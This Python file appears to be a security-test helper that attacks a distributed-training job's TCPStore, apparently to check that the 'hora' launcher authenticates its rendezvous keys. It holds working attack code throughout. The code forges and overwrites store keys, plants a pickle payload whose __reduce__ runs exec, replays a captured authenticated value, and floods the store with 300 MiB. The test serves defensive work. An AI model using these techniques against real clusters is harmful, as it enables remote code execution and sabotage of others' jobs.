"""A stranger on the cluster network: a process on another host with nothing but TCP to the job's store.

    python attacker.py DIR TARGET [TARGET ...]

It waits for ``DIR/store`` (``host:port`` of the job's rendezvous store, which the test finds the way a port
scan would), connects as any TCPStore client can, and then, every few milliseconds until ``DIR/stop`` exists,
lists the keys, learns the job ids from them and overwrites the keys of each TARGET (those that exist and the
ones it can predict) with forged values: plain ones as hora wrote them before it authenticated the store, and
ones made to look authenticated (``b"P" + value``, ``b"M" + 32 random bytes + value``). After its first round
it creates ``DIR/attacker.ready``, and after its first round that knew a job's id (from the keys, or from
``DIR/job``, which the test's workers write) ``DIR/job.seen``: the workers wait for it, so the attack is in
place before they read.

Pickled keys get a payload that, when unpickled, creates ``DIR/canary.<host>.<pid>``; addresses point at the
attacker's own listener, which records every connection in ``DIR/connections``. ``DIR/attacks.jsonl`` gets
one line per key the first time it is overwritten.

TARGETs: mesh, watch, lost, bell, board, fn, result, elastic-world, elastic-ready, gen-replay, flood.

``flood`` writes 300 values of 1 MiB under ``hora/flood/<i>`` first (issue 33: the launcher grew by 310 MB),
then goes on with the other targets on a new connection; ``DIR/flood.json`` says how many were taken before
the store closed its connection.

``gen-replay`` forges nothing: it keeps the first value of ``hora/<job>/elastic/gen`` it reads (world 1's, MAC
and all: ``DIR/gen.captured`` says it has one) and puts it back whenever the driver has written another, a
replay whose MAC checks.
"""

from __future__ import annotations

import datetime
import json
import os
import pickle
import re
import socket
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path

from torch.distributed import TCPStore

DIR = Path(sys.argv[1])
TARGETS = sys.argv[2:]
HOST = socket.gethostname()
JOB = re.compile(r"^hora/([0-9a-f]{12})/")


class Canary:
    """Unpickling this runs code: it leaves a file saying where."""

    def __reduce__(self) -> tuple[object, tuple[str]]:
        code = (f"import os, socket; open(os.path.join({str(DIR)!r}, 'canary.' + socket.gethostname() + '.' + "
                "str(os.getpid())), 'w').write('attacker code ran')")
        return exec, (code,)


def _listen() -> str:
    """A listener for ranks misled into connecting here (they must never be)."""
    server = socket.create_server(("", 0))

    def serve() -> None:
        while True:
            conn, peer = server.accept()
            with open(DIR / "connections", "a") as f:
                f.write(f"{peer[0]}:{peer[1]}\n")
            conn.close()

    threading.Thread(target=serve, daemon=True).start()
    return f"{socket.gethostbyname(HOST)}:{server.getsockname()[1]}"


def _variants(value: bytes) -> list[bytes]:
    """The value as old hora wrote it (most of the time) and made to look like an authenticated one."""
    return [value, value, value, b"P" + value, b"M" + os.urandom(32) + value]


def _forged(jobs: set[str], keys: list[str], me: str) -> Iterator[tuple[str, bytes]]:
    payload = pickle.dumps(Canary())
    for target in TARGETS:
        for job in sorted(jobs):
            g = f"hora/{job}/g1/"
            board = f"hora/{job}/board/"
            if target == "mesh":
                yield from ((f"{g}mesh/{r}", me.encode()) for r in (0, 1))
            elif target == "watch":
                yield from ((f"{g}watch/{r}", me.encode()) for r in (0, 1))
            elif target == "lost":
                yield f"{g}lost", b"1"
            elif target == "bell":
                yield from ((f"{g}bell/{n}", b"1") for n in range(1, 40))
            elif target == "board":
                yield from ((f"{board}waiting/{r}", json.dumps({"missing": [1 - r], "waited": 99.0, "round": 1,
                                                                "ts": time.time()}).encode()) for r in (0, 1))
                yield from ((f"{board}inflight/{r}", json.dumps(
                    {"ops": [{"kind": "allreduce", "name": "x", "op": "allreduce 'pwned'", "ps": [0, 1],
                              "bytes": 1, "age": 99.0}], "waited": 99.0, "expired": True, "shutdown": 1.0,
                     "ts": time.time()}).encode()) for r in (0, 1))
                yield f"{board}culprit", json.dumps({"rank": 1, "how": "pwned by a stranger", "by": 0}).encode()
                yield from ((f"{board}ended/{r}", b"exit code 0 (pwned)") for r in (0, 1))
                yield from ((f"{g}arrived/{r}", b"1") for r in (0, 1))
            elif target == "elastic-world":
                e = f"hora/{job}/elastic/"
                world = {"gen": 1, "size": 1, "updates": 0, "workers": {
                    "10.78.0.3:0": {"rank": 0, "local_rank": 0, "local_size": 1, "cross_rank": 0, "cross_size": 1,
                                    "hostname": "pwned"}}}
                yield f"{e}world/1", json.dumps(world).encode()
                yield f"{e}gen", b"1"
            elif target == "elastic-ready":
                yield from ((k, b"0") for k in keys if k.startswith(f"hora/{job}/elastic/ready/"))
        if target == "fn":
            yield "hora.run/fn", payload
        elif target == "result":
            yield from ((f"hora.run/result/{r}", payload) for r in (0, 1))


def _replay_gen(store: TCPStore, jobs: set[str], captured: dict[str, bytes]) -> None:
    """Keep each job's ``elastic/gen`` at the first value read (see the module docstring): once captured, a
    thread of its own writes it back every fraction of a millisecond, so a newer value the driver writes is
    gone before a worker reads it."""
    for job in jobs:
        key = f"hora/{job}/elastic/gen"
        if key in captured or not store.check([key]):
            continue
        captured[key] = store.get(key)
        (DIR / "gen.captured").write_text(key)
        threading.Thread(target=_hold, args=(store.clone(), key, captured[key]), daemon=True).start()


def _hold(store: TCPStore, key: str, value: bytes) -> None:
    while not (DIR / "stop").exists():
        try:
            now = store.compare_set(key, value, value)  # what the key holds, without overwriting it unseen
            if now != value:  # the driver wrote a newer one: put the old one back, a replay
                store.set(key, value)
                with open(DIR / "attacks.jsonl", "a") as f:
                    f.write(json.dumps({"key": key, "replayed": now.decode(errors="replace")[-8:]}) + "\n")
        except Exception:  # noqa: BLE001 - the store went away with its job
            return
        time.sleep(0.0002)


def _flood(host: str, port: int) -> None:
    """300 one-MiB values, then what happened: how many went out before the store closed the connection."""
    store = TCPStore(host, port, is_master=False, timeout=datetime.timedelta(seconds=30))
    sent, error = 0, ""
    try:
        for i in range(300):
            store.set(f"hora/flood/{i}", os.urandom(1 << 20))
            sent += 1
        store.get("hora/flood/0")  # a write the store refused is only seen at the next answer
    except Exception as e:  # noqa: BLE001 - the store closed this connection: what the test wants to see
        error = str(e).splitlines()[0]
    (DIR / "flood.json").write_text(json.dumps({"sent": sent, "error": error}))


def main() -> int:
    me = _listen()
    while not (DIR / "store").exists():
        time.sleep(0.005)
    host, _, port = (DIR / "store").read_text().strip().rpartition(":")
    if "flood" in TARGETS:
        _flood(host, int(port))
    store = TCPStore(host, int(port), is_master=False, timeout=datetime.timedelta(seconds=30))
    jobs: set[str] = set()
    written: set[str] = set()
    replayed: dict[str, bytes] = {}
    rounds = 0
    while not (DIR / "stop").exists():
        try:
            keys = store.list_keys()
            jobs |= {m.group(1) for k in keys if (m := JOB.match(k))}
            told = DIR / "job"  # the job's id, before its ranks write any key (tests/cluster/attacked_worker.py)
            if told.exists():
                jobs.add(told.read_text().strip())
            forged = dict(_forged(jobs, keys, me))
            if forged:  # one round trip for all of them: the legitimate values live a millisecond or two
                store.multi_set(list(forged), [_variants(v)[rounds % 5] for v in forged.values()])
            for key in forged.keys() - written:
                written.add(key)
                with open(DIR / "attacks.jsonl", "a") as f:
                    f.write(json.dumps({"key": key, "round": rounds}) + "\n")
            if "gen-replay" in TARGETS:
                _replay_gen(store, jobs, replayed)
            if "board" in TARGETS:  # the counters carry no MAC: bump them so the readers look at the posts
                for job in jobs:
                    store.add(f"hora/{job}/board/waits", 1)
                    store.add(f"hora/{job}/board/ends", 1)
        except Exception as e:  # noqa: BLE001 - the store went away with its job: wait for the test to stop us
            with open(DIR / "attacker.errors", "a") as f:
                f.write(f"{e}\n")
            time.sleep(0.1)
        rounds += 1
        if rounds == 1:
            (DIR / "attacker.ready").touch()
        if jobs and not (DIR / "job.seen").exists():  # this round forged the job's keys
            (DIR / "job.seen").touch()
        time.sleep(0.001)
    return 0


if __name__ == "__main__":
    sys.exit(main())
